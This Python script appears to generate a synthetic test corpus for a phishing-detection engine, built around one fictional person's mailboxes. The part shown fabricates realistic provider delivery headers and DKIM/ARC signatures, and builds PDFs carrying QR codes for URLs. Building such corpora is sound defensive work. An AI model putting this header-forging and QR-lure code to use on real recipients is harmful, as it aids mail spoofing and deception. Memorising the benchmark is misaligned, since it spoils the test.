"""Blind set 43: the ordinary phishing folder of one English-speaking person's long-lived personal mailboxes.

The recipient, Gordon Whitlock, has kept the same handful of addresses for twenty years: a Gmail account, an
alumni forwarding alias (gwhitlock@cantab.net) that lands in that Gmail, an old Hotmail address on Outlook.com,
an AOL and a Yahoo UK address (both on Yahoo's platform) and his own domain whitlock.me.uk on a self-hosted
Postfix box. The 50 attacks are the everyday 2024-2026 mix such people publish as "my phishing folder":
mailbox quota and pending-message lures naming his own domain, webmail re-validation, fake Microsoft, DocuSign,
Adobe, voicemail and fax notices, callback invoices (Norton, Geek Squad, McAfee, PayPal, Amazon), parcel
notices, bank and card alerts, streaming and Apple lures, social-network copyright lures, crypto wallets, tax
refunds, survey rewards, sextortion, advance-fee, romance and job scams, sent through compromised mailboxes,
look-alike domains and bulk senders and hosted on genuine platforms and redirectors; a few carry droppers. The
25 legitimate messages are the genuine notices, receipts, shares, newsletters, lists and personal mail of the
same mailboxes. Run: cd /work/main && .venv/bin/python samples/tools/build_blind43_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.header import Header
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 43
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / f"blind{N}_manifest.txt"

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b43-legit-docusign-solicitor": "clean",
    "b43-legit-onedrive-brother": "clean",
    "b43-legit-paypal-money-request": "clean",
    "b43-legit-paypal-receipt": "clean",
}

# The recipient's mailboxes.
G = "gordon.whitlock@gmail.com"
C = "gwhitlock@cantab.net"
H = "g.whitlock@hotmail.co.uk"
A = "gordonwhitlock@aol.com"
Y = "gwhitlock_58@yahoo.co.uk"
P = "gordon@whitlock.me.uk"

PACIFIC = ZoneInfo("America/Los_Angeles")
LONDON = ZoneInfo("Europe/London")
EASTERN = ZoneInfo("America/New_York")
UTC = timezone.utc


# ---------------------------------------------------------------------------------------------------------------
# Deterministic pseudo-random material
# ---------------------------------------------------------------------------------------------------------------

def _stream(seed: str, n: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"b{N}:{seed}:{counter}".encode()).digest()
        counter += 1
    return out[:n]


def rid(seed: str, n: int = 16, alphabet: str = "0123456789abcdef") -> str:
    data = _stream(seed, n)
    return "".join(alphabet[b % len(alphabet)] for b in data)


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
DIGITS = "0123456789"


def b64(seed: str, n: int) -> str:
    return base64.b64encode(_stream(seed, n)).decode()


def when(s: str) -> datetime:
    """'2025-01-14 15:12:47' as UTC."""
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)


def rfc(moment: datetime, tz=UTC, comment: bool = False) -> str:
    local = moment.astimezone(tz)
    out = format_datetime(local)
    if comment:
        out += f" ({local.tzname()})"
    return out


def enc(value: str, charset: str = "utf-8") -> str:
    """RFC 2047 encode a header value when it is not ASCII."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, charset).encode()


def b_subject(value: str) -> str:
    """A subject as base64 encoded-words of at most 75 characters, folded the way bulk senders' libraries do."""
    words = []
    chunk = ""
    for ch in value:
        if len(base64.b64encode((chunk + ch).encode())) > 45:
            words.append(chunk)
            chunk = ""
        chunk += ch
    words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def addr(name: str, email: str) -> str:
    if not name:
        return email
    try:
        name.encode("ascii")
        if any(ch in name for ch in ',.@;:()"'):
            return f'"{name}" <{email}>'
        return f"{name} <{email}>"
    except UnicodeEncodeError:
        return f"{Header(name, 'utf-8').encode()} <{email}>"


def fold_b64(value: str, first: int = 60, width: int = 70) -> str:
    chunks = [value[:first]]
    rest = value[first:]
    while rest:
        chunks.append(rest[:width])
        rest = rest[width:]
    return "\n\t ".join(chunks)


def dkim_sig(domain: str, selector: str, seed: str, moment: datetime,
             headers: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
             i: str | None = None, bits: int = 2048, canon: str = "relaxed/relaxed", extra: str = "") -> str:
    bsig = b64(f"dkim-b:{seed}:{domain}", bits // 8)
    bh = b64(f"dkim-bh:{seed}:{domain}", 32)
    ident = f" i={i};" if i else ""
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c={canon}; d={domain};{ident}\n"
            f"\ts={selector}; t={int(moment.timestamp())};{extra}\n"
            f"\tbh={bh};\n"
            f"\th={headers};\n"
            f"\tb={fold_b64(bsig)}")


def dkim_b8(domain: str, seed: str) -> str:
    return b64(f"dkim-b:{seed}:{domain}", 256)[:8]


# ---------------------------------------------------------------------------------------------------------------
# Arrival: the headers each receiving provider adds
# ---------------------------------------------------------------------------------------------------------------

FWD_HOST = "mx2.cantab.net"
FWD_IP = "185.73.44.152"


def _spf_gmail(result: str, mailfrom: str, ip: str) -> str:
    dom = mailfrom.split("@")[-1]
    if result == "pass":
        return f"spf=pass (google.com: domain of {mailfrom} designates {ip} as permitted sender) smtp.mailfrom={mailfrom}"
    if result == "softfail":
        return (f"spf=softfail (google.com: domain of transitioning {mailfrom} does not designate {ip} as "
                f"permitted sender) smtp.mailfrom={mailfrom}")
    if result == "fail":
        return f"spf=fail (google.com: domain of {mailfrom} does not designate {ip} as permitted sender) smtp.mailfrom={mailfrom}"
    if result == "neutral":
        return (f"spf=neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain "
                f"of {mailfrom}) smtp.mailfrom={mailfrom}")
    return f"spf=none (google.com: {dom} does not designate permitted sender hosts) smtp.mailfrom={mailfrom}"


def _dkim_words(dkims, style: str, seed: str) -> list[str]:
    out = []
    for d, s, res in dkims:
        if style == "gmail":
            out.append(f"dkim={res} header.i=@{d} header.s={s} header.b={dkim_b8(d, seed)}")
        elif style == "yahoo":
            out.append(f"dkim={res} header.i=@{d} header.s={s}")
        elif style == "self":
            key = "2048-bit key; unprotected" if res == "pass" else "2048-bit key; unprotected) reason=\"signature verification failed\" ("
            out.append(f"dkim={res} ({key}) header.d={d} header.i=@{d} header.a=rsa-sha256 header.s={s} "
                       f"header.b={dkim_b8(d, seed)}")
    return out


def arrive(box: str, to: str, moment: datetime, *, ip: str, rdns: str | None, helo: str, mailfrom: str,
           spf: str, dkims=(), dmarc: tuple[str, str] | None = None, from_dom: str, seed: str,
           tls: bool = True) -> list[str]:
    """Receiving-side headers, newest first, for one of the recipient's mailboxes."""
    if box in ("gmail", "fwd"):
        return _gmail(box, to, moment, ip=ip, rdns=rdns, helo=helo, mailfrom=mailfrom, spf=spf, dkims=dkims,
                      dmarc=dmarc, from_dom=from_dom, seed=seed, tls=tls)
    if box == "outlook":
        return _outlook(to, moment, ip=ip, rdns=rdns, helo=helo, mailfrom=mailfrom, spf=spf, dkims=dkims,
                        dmarc=dmarc, from_dom=from_dom, seed=seed)
    if box in ("aol", "yahoo"):
        return _yahoo(box, to, moment, ip=ip, rdns=rdns, helo=helo, mailfrom=mailfrom, spf=spf, dkims=dkims,
                      dmarc=dmarc, from_dom=from_dom, seed=seed, tls=tls)
    if box == "self":
        return _selfhosted(to, moment, ip=ip, rdns=rdns, helo=helo, mailfrom=mailfrom, spf=spf, dkims=dkims,
                           dmarc=dmarc, from_dom=from_dom, seed=seed, tls=tls)
    raise ValueError(box)


def _gmail(box, to, moment, *, ip, rdns, helo, mailfrom, spf, dkims, dmarc, from_dom, seed, tls):
    gm = G
    t_mx = moment
    pst = rfc(t_mx, PACIFIC, comment=True)
    smtp_id = (f"{rid(seed + 'gid1', 1, '5')}b1f17b1804b1-{rid(seed + 'gid2', 11, '0123456789abcdef')}"
               f"si{rid(seed + 'gid3', 7, DIGITS)}f8f.{rid(seed + 'gid4', 3, DIGITS)}."
               f"{t_mx.astimezone(PACIFIC).strftime('%Y.%m.%d.%H.%M.%S')}")
    lines = [f"Delivered-To: {gm}"]
    lines.append(f"Received: by 2002:a05:7300:{rid(seed + 'r1', 4)}:b0:{rid(seed + 'r2', 3)}:{rid(seed + 'r3', 4)} "
                 f"with SMTP id {rid(seed + 'r4', 3, 'abcdefghijklmnopqrstuvwxyz')}csp{rid(seed + 'r5', 7, DIGITS)}"
                 f"dyc;\n        {rfc(t_mx + timedelta(seconds=1), PACIFIC, comment=True)}")
    lines.append(f"X-Google-Smtp-Source: AGHT+I{rid(seed + 'xgs', 62, ALNUM)}")
    lines.append(f"X-Received: by 2002:a05:6000:{rid(seed + 'x1', 4)}:b0:{rid(seed + 'x2', 3)}:{rid(seed + 'x3', 4)} "
                 f"with SMTP id {rid(seed + 'x4', 12, ALNUM.lower())}.{rid(seed + 'x5', 3, DIGITS)}."
                 f"{rid(seed + 'x6', 13, DIGITS)};\n        {rfc(t_mx + timedelta(seconds=1), PACIFIC, comment=True)}")
    # authentication as Gmail records it
    if box == "fwd":
        srs = f"SRS0={rid(seed + 'srs', 4, ALNUM)}={rid(seed + 'srs2', 2, UPNUM)}={mailfrom.split('@')[-1]}={mailfrom.split('@')[0]}@cantab.net"
        outer_from, outer_ip, outer_spf = srs, FWD_IP, "pass"
    else:
        outer_from, outer_ip, outer_spf = mailfrom, ip, spf
    words = _dkim_words(dkims, "gmail", seed)
    words.append(_spf_gmail(outer_spf, outer_from, outer_ip))
    if dmarc:
        dis = "NONE" if dmarc[0] == "pass" or dmarc[1] == "NONE" else dmarc[1]
        words.append(f"dmarc={dmarc[0]} (p={dmarc[1]} sp={dmarc[1]} dis={dis}) header.from={from_dom}")
    arc_ar = ";\n       ".join(words)
    lines.append(f"ARC-Seal: i=1; a=rsa-sha256; t={int(t_mx.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n"
                 f"        b={fold_b64(b64(seed + 'arcseal', 256), 58, 66).replace(chr(10) + chr(9) + ' ', chr(10) + '         ')}")
    lines.append(f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
                 f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
                 f"        bh={b64(seed + 'arcbh', 32)};\n"
                 f"        fh=; b={fold_b64(b64(seed + 'arcms', 256), 58, 66).replace(chr(10) + chr(9) + ' ', chr(10) + '         ')}")
    lines.append(f"ARC-Authentication-Results: i=1; mx.google.com;\n       {arc_ar}")
    lines.append(f"Return-Path: <{outer_from}>")
    if box == "fwd":
        lines.append(f"Received: from {FWD_HOST} ({FWD_HOST}. [{FWD_IP}])\n        by mx.google.com with ESMTPS id {smtp_id}\n"
                     f"        for <{gm}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {pst}")
    else:
        origin = f"{helo} ({rdns}. [{ip}])" if rdns else f"{helo} ([{ip}])"
        how = "ESMTPS" if tls else "ESMTP"
        tls_line = "\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);" if tls else ";"
        lines.append(f"Received: from {origin}\n        by mx.google.com with {how} id {smtp_id}\n"
                     f"        for <{gm}>{tls_line}\n        {pst}")
    if outer_spf == "pass":
        rs = f"Received-SPF: pass (google.com: domain of {outer_from} designates {outer_ip} as permitted sender) client-ip={outer_ip};"
    elif outer_spf == "softfail":
        rs = (f"Received-SPF: softfail (google.com: domain of transitioning {outer_from} does not designate {outer_ip} "
              f"as permitted sender) client-ip={outer_ip};")
    elif outer_spf == "fail":
        rs = f"Received-SPF: fail (google.com: domain of {outer_from} does not designate {outer_ip} as permitted sender) client-ip={outer_ip};"
    elif outer_spf == "neutral":
        rs = (f"Received-SPF: neutral (google.com: {outer_ip} is neither permitted nor denied by best guess record for "
              f"domain of {outer_from}) client-ip={outer_ip};")
    else:
        rs = f"Received-SPF: none (google.com: {outer_from.split('@')[-1]} does not designate permitted sender hosts) client-ip={outer_ip};"
    lines.append(rs)
    lines.append(f"Authentication-Results: mx.google.com;\n       {arc_ar}")
    if box == "fwd":
        # the alumni forwarder's own hop, with its verdicts
        t_in = moment - timedelta(seconds=2)
        origin = f"{rdns} ([{ip}] helo={helo})" if rdns else f"[{ip}] (helo={helo})"
        lines.append(f"Received: from {origin}\n\tby {FWD_HOST} with esmtps (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
                     f"\t(Exim 4.97.1)\n\t(envelope-from <{mailfrom}>)\n\tid 1{rid(seed + 'exim', 5, ALNUM)}-"
                     f"{rid(seed + 'exim2', 6, ALNUM)}-{rid(seed + 'exim3', 2, ALNUM)}\n\tfor {to}; {rfc(t_in, LONDON)}")
        lines.append(f"X-Cantab-Forwarded-For: {to}")
    return lines


def _outlook(to, moment, *, ip, rdns, helo, mailfrom, spf, dkims, dmarc, from_dom, seed):
    ver = "15.20.8293.14" if moment.year < 2025 else ("15.20.8466.9" if moment.year == 2025 else "15.20.9094.11")
    n1 = f"AM{rid(seed + 'o1', 1, '6789')}P{rid(seed + 'o2', 3, DIGITS)}MB{rid(seed + 'o3', 4, DIGITS)}"
    mbx = f"{n1}.EURP{rid(seed + 'o2', 3, DIGITS)}.PROD.OUTLOOK.COM"
    fe = f"DU{rid(seed + 'o4', 1, '26')}PR{rid(seed + 'o5', 2, DIGITS)}CA{rid(seed + 'o6', 4, DIGITS)}"
    edge = f"DB{rid(seed + 'o7', 1, '15')}PEPF0000{rid(seed + 'o8', 4, '0123456789ABCDEF')}"
    t = moment
    lines = [
        f"Received: from {mbx} (::1) by {n1.replace('AM', 'PA', 1)}.EURP{rid(seed + 'o2', 3, DIGITS)}.PROD.OUTLOOK.COM with HTTPS; "
        f"{rfc(t + timedelta(seconds=2))}",
        f"Received: from {fe}.eurprd0{rid(seed + 'o9', 1, '2345')}.prod.outlook.com (2603:10a6:10:{rid(seed + 'oa', 3)}::{rid(seed + 'ob', 2)}) "
        f"by {mbx} (2603:10a6:20b:{rid(seed + 'oc', 3)}::{rid(seed + 'od', 2)}) with Microsoft SMTP Server "
        f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {rfc(t + timedelta(seconds=1))}",
        f"Received: from {edge}.eurprd0{rid(seed + 'oe', 1, '345')}.prod.outlook.com (2603:10a6:10:{rid(seed + 'oa', 3)}:cafe::{rid(seed + 'of', 2)}) "
        f"by {fe}.outlook.office365.com (2603:10a6:10:{rid(seed + 'oa', 3)}::{rid(seed + 'ob', 2)}) with Microsoft SMTP Server "
        f"(version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {ver} via Frontend Transport; {rfc(t + timedelta(seconds=1))}",
    ]
    dk = "; ".join(f"dkim={'pass (signature was verified)' if r == 'pass' else r + ' (body hash did not verify)' if r == 'fail' else 'none (message not signed)'} header.d={d}" for d, s, r in dkims) or "dkim=none (message not signed) header.d=none"
    if dmarc:
        dm = f"dmarc={dmarc[0]} action={'none' if dmarc[0] == 'pass' or dmarc[1] == 'NONE' else ('quarantine' if dmarc[1] == 'QUARANTINE' else 'oreject')} header.from={from_dom}"
        comp = "compauth=pass reason=100" if dmarc[0] == "pass" else "compauth=fail reason=000"
    else:
        dm = f"dmarc=none action=none header.from={from_dom}"
        comp = "compauth=pass reason=109" if spf == "pass" else "compauth=softpass reason=201" if dkims else "compauth=fail reason=001"
    spf_why = {"pass": f"sender IP is {ip}", "softfail": f"sender IP is {ip}", "fail": f"sender IP is {ip}",
               "neutral": f"sender IP is {ip}", "none": f"sender IP is {ip}"}[spf]
    mdom = mailfrom.split("@")[-1]
    lines.append(f"Authentication-Results: spf={spf} ({spf_why})\n smtp.mailfrom={mdom}; {dk};dmarc={dm.split('=', 1)[1]};{comp}")
    rs_word = {"pass": "Pass", "softfail": "SoftFail", "fail": "Fail", "neutral": "Neutral", "none": "None"}[spf]
    rs_text = {"pass": f"domain of {mdom} designates {ip} as permitted sender",
               "softfail": f"domain of transitioning {mdom} discourages use of {ip} as permitted sender",
               "fail": f"domain of {mdom} does not designate {ip} as permitted sender",
               "neutral": f"{ip} is neither permitted nor denied by domain of {mdom}",
               "none": f"{mdom} does not designate permitted sender hosts"}[spf]
    lines.append(f"Received-SPF: {rs_word} (protection.outlook.com: {rs_text})\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};"
                 + (" pr=C" if spf == "pass" else ""))
    origin = f"{rdns} ({ip})" if rdns else f"{helo} ({ip})"
    lines.append(f"Received: from {origin} by\n {edge}.mail.protection.outlook.com (10.167.242.{int(rid(seed + 'og', 2, DIGITS)) + 10}) with Microsoft SMTP\n"
                 f" Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {ver}\n via Frontend Transport; {rfc(t)}")
    lines.append(f"X-IncomingTopHeaderMarker:\n OriginalChecksum:{rid(seed + 'ck1', 64, '0123456789ABCDEF')};"
                 f"UpperCasedChecksum:{rid(seed + 'ck2', 64, '0123456789ABCDEF')};SizeAsReceived:{3000 + int(rid(seed + 'sz', 4, DIGITS)) % 6000};"
                 f"Count:{14 + int(rid(seed + 'cnt', 1, DIGITS))}")
    return lines


def _yahoo(box, to, moment, *, ip, rdns, helo, mailfrom, spf, dkims, dmarc, from_dom, seed, tls):
    t = moment
    internal = f"10.217.{130 + int(rid(seed + 'y1', 2, DIGITS)) % 60}.{int(rid(seed + 'y2', 3, DIGITS)) % 250 + 2}"
    atlas = (f"atlas{int(rid(seed + 'y3', 3, DIGITS)) % 400 + 100}.aol.mail.ne1.yahoo.com" if box == "aol"
             else f"atlas-production.v2.mail-prod1.omega.{'gq1' if int(rid(seed + 'y4', 1, DIGITS)) % 2 else 'bf2'}.yahoo.com")
    mdom = mailfrom.split("@")[-1]
    lines = [f"X-Apparently-To: {to}; {rfc(t)}", f"Return-Path: <{mailfrom}>"]
    lines.append(f"Received: from {internal}\n by {atlas} with HTTP; {rfc(t + timedelta(seconds=1))}")
    spf_line = {"pass": f"pass (domain of {mdom} designates {ip} as permitted sender)",
                "softfail": f"softfail (domain of transitioning {mdom} does not designate {ip} as permitted sender)",
                "fail": f"fail (domain of {mdom} does not designate {ip} as permitted sender)",
                "neutral": f"neutral (domain of {mdom} neither permits nor denies {ip})",
                "none": f"none (domain of {mdom} does not designate permitted sender hosts)"}[spf]
    lines.append(f"Received-SPF: {spf_line}")
    lines.append(f"X-YMailISG: {rid(seed + 'isg', 64, ALNUM + '._')}")
    lines.append(f"X-Originating-IP: [{ip}]")
    words = _dkim_words(dkims, "yahoo", seed)
    words.append(f"spf={spf} smtp.mailfrom={mdom}")
    if dmarc:
        words.append(f"dmarc={dmarc[0]}(p={dmarc[1]}) header.from={from_dom}")
    else:
        words.append(f"dmarc=unknown header.from={from_dom}")
    lines.append(f"Authentication-Results: {atlas};\n " + ";\n ".join(words) + ";")
    how = ("with SMTPs\n (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256)" if tls else "with SMTP")
    lines.append(f"Received: from {ip} (EHLO {helo})\n by {internal} {how};\n {rfc(t)}")
    lines.append(f"X-Sonic-MF: <{mailfrom}>")
    lines.append(f"X-Sonic-ID: {rid(seed + 'sonic', 8)}-{rid(seed + 'sonic2', 4)}-{rid(seed + 'sonic3', 4)}-"
                 f"{rid(seed + 'sonic4', 4)}-{rid(seed + 'sonic5', 12)}")
    return lines


def _selfhosted(to, moment, *, ip, rdns, helo, mailfrom, spf, dkims, dmarc, from_dom, seed, tls):
    t = moment
    qid = rid(seed + "pf", 12, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
    lines = [f"Return-Path: <{mailfrom}>", f"X-Original-To: {to}", f"Delivered-To: {P}"]
    lines.append(f"Received: from localhost (localhost [127.0.0.1])\n\tby mx.whitlock.me.uk (Postfix) with ESMTP id 4{qid[:11]}\n"
                 f"\tfor <{P}>; {rfc(t + timedelta(seconds=3), LONDON, comment=True)}")
    lines.append(f"X-Virus-Scanned: Debian amavis at whitlock.me.uk")
    lines.append(f"X-Spam-Flag: NO\nX-Spam-Score: {'-0.1' if spf == 'pass' else '2.4'}")
    if dmarc:
        lines.append(f"Authentication-Results: mx.whitlock.me.uk; dmarc={dmarc[0]} (p={dmarc[1].lower()} dis="
                     f"{'none' if dmarc[0] == 'pass' or dmarc[1] == 'NONE' else dmarc[1].lower()}) header.from={from_dom}")
    else:
        lines.append(f"Authentication-Results: mx.whitlock.me.uk; dmarc=none (p=none dis=none) header.from={from_dom}")
    dws = _dkim_words(dkims, "self", seed)
    if dws:
        lines.append("Authentication-Results: mx.whitlock.me.uk;\n\t" + ";\n\t".join(dws))
    word = {"pass": "Pass", "softfail": "Softfail", "fail": "Fail", "neutral": "Neutral", "none": "None"}[spf]
    lines.append(f"Received-SPF: {word} (mailfrom) identity=mailfrom; client-ip={ip}; helo={helo};\n"
                 f"\tenvelope-from={mailfrom}; receiver={to}")
    origin = f"{rdns} ({rdns} [{ip}])" if rdns else f"{helo} (unknown [{ip}])"
    tls_txt = ("\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
               "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
               "\t(No client certificate requested)\n") if tls else ""
    lines.append(f"Received: from {origin}\n{tls_txt}\tby mx.whitlock.me.uk (Postfix) with ESMTP{'S' if tls else ''} id 4{qid[1:12]}\n"
                 f"\tfor <{to}>; {rfc(t, LONDON, comment=True)}")
    return lines


BOXES = {G: "gmail", C: "fwd", H: "outlook", A: "aol", Y: "yahoo"}


def box_of(to: str) -> str:
    if to.endswith("@whitlock.me.uk"):
        return "self"
    return BOXES[to]


# ---------------------------------------------------------------------------------------------------------------
# Assembling and checking
# ---------------------------------------------------------------------------------------------------------------

ENTRIES: list[tuple[str, str, str, bytes]] = []


def emit(stem: str, folder: str, desc: str, raw: bytes) -> None:
    ENTRIES.append((stem, folder, desc, raw))


def mail(stem: str, folder: str, desc: str, *, to: str, at: str, ip: str, rdns: str | None, helo: str,
         mailfrom: str, spf: str, from_dom: str, head: str, body, dkims=(), dmarc=None, hops=(), sign=None,
         tls: bool = True, envelope_to: str | None = None) -> None:
    """One message: receiver headers, sender hops, DKIM signatures, then ``head`` and the MIME body.

    ``sign`` is a list of (domain, selector, extra-kwargs) for DKIM-Signature headers; ``dkims`` the verdicts.
    """
    moment = when(at)
    seed = stem
    lines = arrive(box_of(to), envelope_to or to, moment, ip=ip, rdns=rdns, helo=helo, mailfrom=mailfrom, spf=spf,
                   dkims=dkims, dmarc=dmarc, from_dom=from_dom, seed=seed, tls=tls)
    lines.extend(hops)
    for d, s, kw in (sign or [(d, s, {}) for d, s, _ in dkims]):
        lines.append(dkim_sig(d, s, seed, moment - timedelta(seconds=4), **kw))
    top = "\n".join(lines) + "\n" + head.strip("\n")
    emit(stem, folder, desc, message(top, body))


def html_alt(plain: str, html: str, boundary: str, encoding: str = "quoted-printable", charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", encoding, charset), text(html, "html", encoding, charset)])


def check(stem: str, raw: bytes) -> None:
    for number, line in enumerate(raw.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: no {name}"
    for name, value in msg.items():
        assert not getattr(value, "defects", ()), f"{stem}: header {name} defects {value.defects}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: defects {part.defects} in {part.get_content_type()}"
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), f"{stem}: empty text part"
    for raw_header in raw.split(b"\n\n", 1)[0].split(b"\n"):
        raw_header.decode("ascii")


def qr_pdf(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with text lines and a QR code image of ``url`` below them."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    scale, border = 5, 4
    matrix = [list(row) for row in qr.matrix]
    size = (len(matrix) + 2 * border) * scale
    rows = []
    for y in range(size):
        my = y // scale - border
        row = bytearray()
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            row.append(0 if dark else 255)
        rows.append(bytes(row))
    image = zlib.compress(b"".join(rows), 9)
    content = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"]
    for line in lines:
        content.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    content.append("ET")
    content.append(f"q {size} 0 0 {size} 56 {740 - 16 * len(lines) - size} cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Skia/PDF m126) /Creator (Chromium) >>".encode())
    return files.pdf_file(objects, len(objects))


# ---------------------------------------------------------------------------------------------------------------
# Common sending infrastructure
# ---------------------------------------------------------------------------------------------------------------

def gmail_msgid(seed: str) -> str:
    return f"<CA+{rid(seed + 'gm1', 14, ALNUM)}{rid(seed + 'gm2', 28, ALNUM + '-_')}@mail.gmail.com>"


def gmail_out(seed: str, moment: datetime) -> tuple[str, str, list[str]]:
    """(ip, rdns, hops) of Gmail's outbound relay for a message written in Gmail's web client."""
    n = 41 + int(rid(seed + "sor", 2, DIGITS)) % 40
    ip = f"209.85.220.{n}"
    hops = [f"Received: by mail-sor-f{n}.google.com with SMTP id {rid(seed + 'sorid', 14, ALNUM.lower())}sor{rid(seed + 'sn', 7, DIGITS)}"
            f"wmc.{rid(seed + 'sn2', 3, DIGITS)}.{moment.astimezone(PACIFIC).strftime('%Y.%m.%d.%H.%M.%S')}\n"
            f"        for <{{to}}>\n        (Google Transport Security);\n        {rfc(moment - timedelta(seconds=1), PACIFIC, comment=True)}",
            f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(moment.timestamp())}; x={int(moment.timestamp()) + 604800};\n"
            f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
            f"        bh={b64(seed + 'xgbh', 32)};\n        b={b64(seed + 'xgb', 96)}",
            f"X-Gm-Message-State: AOJu0Y{rid(seed + 'gms', 58, ALNUM)}",
            f"X-Google-Smtp-Source: AGHT+I{rid(seed + 'gss', 62, ALNUM)}",
            f"X-Received: by 2002:a05:6902:{rid(seed + 'xr', 4)}:b0:{rid(seed + 'xr2', 3)}:{rid(seed + 'xr3', 4)} with SMTP id "
            f"{rid(seed + 'xr4', 10, ALNUM.lower())}-{rid(seed + 'xr5', 12)}.{rid(seed + 'xr6', 2, DIGITS)}.{rid(seed + 'xr7', 13, DIGITS)};"
            f" {rfc(moment - timedelta(seconds=1), PACIFIC, comment=True)}"]
    return ip, f"mail-sor-f{n}.google.com", hops


def fix_to(hops: list[str], to: str) -> list[str]:
    return [h.replace("{to}", to) for h in hops]


def m365_out(seed: str, tenant_dom: str, moment: datetime, region: str = "nam12") -> tuple[str, str, list[str]]:
    """(ip, rdns, hops) of Exchange Online outbound protection for a tenant's mailbox."""
    octet = int(rid(seed + "eo", 3, DIGITS)) % 240 + 10
    ip = f"40.107.{int(rid(seed + 'eo2', 2, DIGITS)) % 90 + 100}.{octet}"
    host = f"mail-{region.replace('nam', 'bn8nam') if region.startswith('nam') else region}on{rid(seed + 'eo3', 4, DIGITS)}.outbound.protection.outlook.com"
    mb = f"SJ0PR{rid(seed + 'mb', 2, DIGITS)}MB{rid(seed + 'mb2', 4, DIGITS)}.namprd{rid(seed + 'mb3', 2, DIGITS)}.prod.outlook.com"
    hops = [f"Received: from {mb} (2603:10b6:a03:{rid(seed + 'v6', 3)}::{rid(seed + 'v62', 2)}) by\n {mb.replace('SJ0PR', 'CH3PR')} with Microsoft SMTP Server\n"
            f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n 15.20.8398.{int(rid(seed + 'bld', 2, DIGITS))}; {rfc(moment - timedelta(seconds=2))}",
            f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold_b64(b64(seed + 'msarc', 256), 60, 70).replace(chr(9) + ' ', ' ')}",
            f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={tenant_dom}; dmarc=pass action=none header.from={tenant_dom};\n"
            f" dkim=pass header.d={tenant_dom}; arc=none"]
    return ip, host, hops


def m365_tail(seed: str, tenant_dom: str, moment: datetime) -> str:
    """The X-MS-Exchange headers a tenant's outbound message carries."""
    tid = f"{rid(seed + 't1', 8)}-{rid(seed + 't2', 4)}-{rid(seed + 't3', 4)}-{rid(seed + 't4', 4)}-{rid(seed + 't5', 12)}"
    return (f"X-MS-Has-Attach: \nX-MS-TNEF-Correlator: \n"
            f"X-MS-Exchange-CrossTenant-Network-Message-Id: {rid(seed + 'nm1', 8)}-{rid(seed + 'nm2', 4)}-{rid(seed + 'nm3', 4)}-"
            f"{rid(seed + 'nm4', 4)}-{rid(seed + 'nm5', 12)}\n"
            f"X-MS-Exchange-CrossTenant-originalarrivaltime: {moment.strftime('%d %b %Y %H:%M:%S.')}"
            f"{rid(seed + 'ms', 4, DIGITS)} (UTC)\n"
            f"X-MS-Exchange-CrossTenant-fromentityheader: Hosted\n"
            f"X-MS-Exchange-CrossTenant-id: {tid}\n"
